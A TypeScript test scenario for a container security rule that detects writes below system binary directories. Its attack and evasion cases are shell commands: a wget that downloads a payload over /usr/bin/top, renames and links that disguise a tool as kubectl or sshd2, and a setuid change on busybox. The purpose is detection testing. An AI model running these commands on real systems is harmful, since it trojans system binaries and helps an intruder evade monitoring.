// D29: writing below system binary directories in a running container: a
// trojaned tool, or a dropped one named like a system program.
import { NET } from '../lib/net-plan';
import type { Scenario } from '../lib/types';

const RULE = 'Write below system binary directory in container';

export const d29: Scenario = {
  row: 'D29',
  title: 'Writes below /bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin inside a running container',
  rules: [RULE],
  mitre: 'T1036',
  category: 'defense_evasion',
  cases: [
    {
      kind: 'attack',
      name: 'a trojaned top downloaded over /usr/bin/top',
      script: `wget -q -O /usr/bin/top http://${NET.web}/payload`,
      expect: [{ rule: RULE, proc: 'wget', fields: { 'fd.name': '/usr/bin/top' } }],
    },
    {
      kind: 'variant',
      name: 'cd /usr/bin && write ./ls2; openat(dirfd of /usr/sbin)',
      evasion: ['relative path', 'dirfd'],
      script: 'cd /usr/bin && echo x > ./ls2; attackops openat /usr/sbin init2 a x > /dev/null',
      expect: [
        { rule: RULE, proc: 'sh', pname: 'runc', fields: { 'fd.name': '/usr/bin/ls2' } },
        { rule: RULE, proc: 'attackops', fields: { 'fd.name': '/usr/sbin/init2' } },
      ],
    },
    {
      kind: 'variant',
      name: 'renamed into /usr/local/bin/kubectl',
      evasion: ['rename-over'],
      script: 'cp /usr/local/bin/attackops /tmp/k && mv /tmp/k /usr/local/bin/kubectl',
      expect: [{ rule: RULE, proc: 'mv', cmdline: /mv \/tmp\/k \/usr\/local\/bin\/kubectl/, fields: { 'fd.name': '/usr/local/bin/kubectl' } }],
    },
    {
      kind: 'variant',
      name: 'hard link and symlink into /bin and /usr/sbin',
      evasion: ['hard link', 'symlink'],
      script: 'cp /usr/local/bin/attackops /tmp/x && ln /tmp/x /bin/ps2; ln -s /tmp/x /usr/sbin/sshd2',
      expect: [
        { rule: RULE, proc: 'ln', fields: { 'fd.name': '/bin/ps2', 'evt.type': 'link' } },
        { rule: RULE, proc: 'ln', fields: { 'fd.name': '/usr/sbin/sshd2', 'evt.type': 'symlink' } },
      ],
    },
    {
      kind: 'variant',
      name: 'setuid bit on /bin/busybox; a binary moved out of /usr/bin',
      evasion: ['another tool'],
      script: 'chmod u+s /bin/busybox; mv /usr/bin/nmap /tmp/',
      expect: [
        { rule: RULE, proc: 'chmod', fields: { 'fd.name': '/bin/busybox' } },
        { rule: RULE, proc: 'mv', fields: { 'evt.arg.oldpath': '/usr/bin/nmap' } },
      ],
    },
    {
      kind: 'benign',
      name: 'a pod runs and reads its binaries and writes below /usr/share',
      script: 'ls /bin > /dev/null; head -c 4 /usr/bin/nmap > /dev/null; echo note > /usr/share/doc/app/NOTES',
    },
  ],
};
